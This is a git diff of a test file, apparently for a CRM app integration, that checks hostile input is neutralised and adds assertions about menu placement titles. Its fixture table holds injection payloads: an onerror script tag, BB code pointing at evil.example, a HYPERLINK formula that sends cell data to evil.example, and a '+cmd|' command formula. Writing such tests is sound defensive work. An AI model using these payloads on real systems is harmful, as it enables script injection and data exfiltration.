@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest'
+import { usualSettings } from '../../server/conversion/settings.ts'
 import {
   administrator,
   commentsOn,
@@ -10,7 +11,7 @@ import {
   salesperson,
   useApp,
 } from './door.ts'
-import { openMainPage } from './main-page.ts'
+import { decide, openMainPage } from './main-page.ts'
 
 useApp()
 
@@ -20,7 +21,7 @@ const hostile: Record<string, string> = {
   'an element with a script in it': `"'><img src=x onerror=alert('hostile')>`,
   'BB code': '[URL=https://evil.example]hostile[/URL][IMG]https://evil.example/a.png[/IMG][B]',
   'half a BB code': 'hostile]https://evil.example[/URL',
-  'a reference into a batch': 'hostile $result[guard][item][id] $result[deal]',
+  'a reference into a batch': 'hostile $result[guard][item][id] $result[deal] $result[unbindPlacement0][count]',
   'a formula with a link': '=HYPERLINK("https://evil.example?"&A1;"hostile")',
   'a formula by sign': '+cmd|hostile!A1',
   'a formula by tabulator': '\t=1+1 hostile',
@@ -120,6 +121,15 @@ describe.each(Object.entries(hostile))('%s in a title, a field, a product and a 
     const undone = commentsOn(portal, 'deal', deal.id).at(-1)!
     expect(undone.split(/[\r\n]/)).toHaveLength(2)
     expect(undone.match(/\[\/?[A-Za-z]+/g)).toEqual(['[B', '[/B'])
+
+    // The menus: an item that names a smart process spells its name as the portal does.
+    const sites = portal.state.smartTypes.find(({ entityTypeId }) => entityTypeId === 1030)!
+    portal.state.smartTypes = [{ ...sites, title: { de: stored, en: stored } }]
+    expect(await decide(portal, { ...usualSettings, menu: 'perTarget' })).toMatchObject({ menus: 'bound', refused: [] })
+    const items = [...portal.state.apps.values()][0]!.placements
+    const item = items.find(({ placement, handler }) => /DEAL.*smart1030$/.test(placement + handler))
+    expect(item?.langAll.de?.TITLE).toBe(`${stored} aus diesem Auftrag…`)
+    expect(items.filter(({ placement }) => placement === 'CRM_DEAL_DETAIL_TOOLBAR')).toHaveLength(3)
 
     // The log: one record per line, and nothing of it.
     expect(logLines.length).toBeGreaterThan(5)
